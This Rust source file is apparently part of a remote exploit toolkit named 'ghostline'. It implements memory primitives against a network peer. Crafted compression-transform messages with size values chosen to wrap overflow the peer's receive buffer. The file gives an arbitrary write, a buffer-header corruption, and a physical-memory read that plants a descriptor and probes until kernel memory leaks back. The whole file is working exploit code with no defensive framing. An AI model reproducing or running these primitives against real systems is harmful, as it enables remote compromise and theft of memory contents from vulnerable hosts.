//! Memory primitive: physical read and pseudo-address write on the peer.
//!
//! Every operation here is built from fresh sessions:
//!
//!   write    negotiate, then a compression transform whose uncompressed
//!            prefix is the payload and whose compressed region expands
//!            into filler ending in the destination address.
//!   corrupt  negotiate, then a force-encoded transform that overruns into
//!            the receive buffer header at a chosen offset.
//!   read     write a descriptor mapping the target page, corrupt the
//!            buffer header to point at it, then probe until the peer
//!            answers with memory instead of a protocol echo.

use bytes::Bytes;
use zerocopy::AsBytes;

use ghostline_core::compress::{compress, EncodePolicy};
use ghostline_core::config::{KernelLayout, PrimitiveConfig};
use ghostline_core::descriptor::MemoryDescriptor;
use ghostline_core::wire;

use crate::session::{RemoteSession, SessionError, Target};

/// Declared decompressed size of a write; large enough that the peer's
/// size arithmetic wraps.
pub const WRITE_ORIGINAL_SIZE: u32 = 0xFFFF_FFFF;

/// Declared decompressed size of a corrupt.
pub const CORRUPT_ORIGINAL_SIZE: u32 = 0xFFFF_EFFF;

const WRITE_FILL: u8 = 0x41;
const CORRUPT_FILL: u8 = 0x33;

/// Shortest response that can carry a qword of leaked memory.
const MIN_LEAK_LEN: usize = 8;

/// Source of physical memory for the translation engine.
///
/// `Ok(None)` is the no-data sentinel: every attempt came back looking like
/// a normal protocol answer. Whether that is fatal is the caller's call.
#[allow(async_fn_in_trait)]
pub trait PhysicalMemory {
    async fn read_physical(&mut self, addr: u64) -> Result<Option<Bytes>, PrimitiveError>;
}

/// Little-endian qword at `offset`, if the buffer is long enough.
pub fn qword_at(buf: &[u8], offset: usize) -> Option<u64> {
    let bytes = buf.get(offset..offset.checked_add(8)?)?;
    Some(u64::from_le_bytes(bytes.try_into().ok()?))
}

/// Filler that the write primitive compresses: runs the decompression
/// past its buffer and lands `pseudo_address` on the raw buffer pointer.
pub fn write_filler(
    payload_len: usize,
    pseudo_address: u64,
    overflow_len: usize,
    ptr_offset: usize,
) -> Vec<u8> {
    let fill = overflow_len.saturating_sub(payload_len);
    let mut filler = Vec::with_capacity(fill + ptr_offset + 8);
    filler.resize(fill, WRITE_FILL);
    filler.resize(fill + ptr_offset, 0);
    filler.extend_from_slice(&pseudo_address.to_le_bytes());
    filler
}

pub struct MemoryPrimitive {
    target: Target,
    settings: PrimitiveConfig,
    layout: KernelLayout,
}

impl MemoryPrimitive {
    pub fn new(target: Target, settings: PrimitiveConfig, layout: KernelLayout) -> Self {
        Self {
            target,
            settings,
            layout,
        }
    }

    /// Copy `bytes` to wherever `pseudo_address` makes the peer put them.
    /// Nothing is acknowledged; verify with a read.
    pub async fn write(&self, bytes: &[u8], pseudo_address: u64) -> Result<(), PrimitiveError> {
        let filler = write_filler(
            bytes.len(),
            pseudo_address,
            self.settings.overflow_len,
            self.layout.raw_buffer_ptr_offset,
        );
        let compressed = compress(&filler, EncodePolicy::Smallest);
        let message = wire::compressed_transform(&compressed, WRITE_ORIGINAL_SIZE, bytes);

        tracing::debug!(
            addr = format_args!("{pseudo_address:#x}"),
            len = bytes.len(),
            "write"
        );
        self.exchange(Operation::Write, &message).await
    }

    /// Overrun the receive buffer header by `offset` bytes with `bytes`.
    pub async fn corrupt(&self, bytes: &[u8], offset: usize) -> Result<(), PrimitiveError> {
        let compressed = compress(bytes, EncodePolicy::ForceEncoded);
        let filler = vec![CORRUPT_FILL; self.settings.overflow_len + offset];
        let message = wire::compressed_transform(&compressed, CORRUPT_ORIGINAL_SIZE, &filler);

        tracing::debug!(offset, len = bytes.len(), preview = hex::encode(bytes), "corrupt");
        self.exchange(Operation::Corrupt, &message).await
    }

    /// Read the physical page contents starting at `phys_addr`.
    ///
    /// Retries the whole sequence up to `max_read_attempts` times; returns
    /// `Ok(None)` when none of them leaked anything. A peer that goes quiet
    /// mid-sequence costs an attempt, not the read.
    pub async fn read(&self, phys_addr: u64) -> Result<Option<Bytes>, PrimitiveError> {
        for attempt in 1..=self.settings.max_read_attempts {
            if let Some(leak) = self.try_read(phys_addr).await? {
                tracing::debug!(
                    addr = format_args!("{phys_addr:#x}"),
                    attempt,
                    len = leak.len(),
                    preview = hex::encode(&leak[..leak.len().min(16)]),
                    "read"
                );
                return Ok(Some(leak));
            }
            tracing::warn!(addr = format_args!("{phys_addr:#x}"), attempt, "read attempt leaked nothing");
        }
        Ok(None)
    }

    async fn try_read(&self, phys_addr: u64) -> Result<Option<Bytes>, PrimitiveError> {
        match self.redirect(phys_addr).await {
            Ok(()) => {}
            Err(e) if e.is_timeout() => {
                tracing::warn!(
                    addr = format_args!("{phys_addr:#x}"),
                    error = %e,
                    "read setup timed out"
                );
                return Ok(None);
            }
            Err(e) => return Err(e),
        }

        for probe in 1..=self.settings.max_probe_attempts {
            match self.probe().await {
                Ok(response) if response.len() >= MIN_LEAK_LEN && !wire::is_protocol_echo(&response) => {
                    return Ok(Some(response));
                }
                Ok(response) => {
                    tracing::trace!(probe, len = response.len(), "probe answered normally");
                }
                Err(e) => {
                    tracing::debug!(probe, error = %e, "probe failed");
                }
            }
        }
        Ok(None)
    }

    /// Plant a descriptor for `phys_addr` and point the receive buffer at it.
    async fn redirect(&self, phys_addr: u64) -> Result<(), PrimitiveError> {
        let descriptor = MemoryDescriptor::new(self.settings.descriptor_map_va, phys_addr);
        self.write(descriptor.as_bytes(), self.settings.descriptor_va)
            .await?;
        self.corrupt(
            &self.settings.descriptor_va.to_le_bytes(),
            self.layout.descriptor_ptr_offset,
        )
        .await
    }

    async fn probe(&self) -> Result<Bytes, SessionError> {
        let mut session = RemoteSession::connect(&self.target).await?;
        let response = session.negotiate().await;
        session.close().await;
        response
    }

    /// Negotiate, send `message`, close. The negotiate answer is discarded.
    async fn exchange(&self, op: Operation, message: &[u8]) -> Result<(), PrimitiveError> {
        let wrap = |source| PrimitiveError::Session {
            op,
            target: self.target.to_string(),
            source,
        };

        let mut session = RemoteSession::connect(&self.target).await.map_err(wrap)?;
        session.negotiate().await.map_err(wrap)?;
        session.send(message).await.map_err(wrap)?;
        session.close().await;
        Ok(())
    }
}

impl PhysicalMemory for MemoryPrimitive {
    async fn read_physical(&mut self, addr: u64) -> Result<Option<Bytes>, PrimitiveError> {
        self.read(addr).await
    }
}

// ── Errors ────────────────────────────────────────────────────────────────────

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Operation {
    Write,
    Corrupt,
}

impl std::fmt::Display for Operation {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Operation::Write => f.write_str("write"),
            Operation::Corrupt => f.write_str("corrupt"),
        }
    }
}

#[derive(Debug, thiserror::Error)]
pub enum PrimitiveError {
    #[error("{op} against {target} failed: {source}")]
    Session {
        op: Operation,
        target: String,
        #[source]
        source: SessionError,
    },
}

impl PrimitiveError {
    /// The peer stopped answering, as opposed to refusing or resetting.
    pub fn is_timeout(&self) -> bool {
        match self {
            PrimitiveError::Session { source, .. } => source.is_timeout(),
        }
    }
}
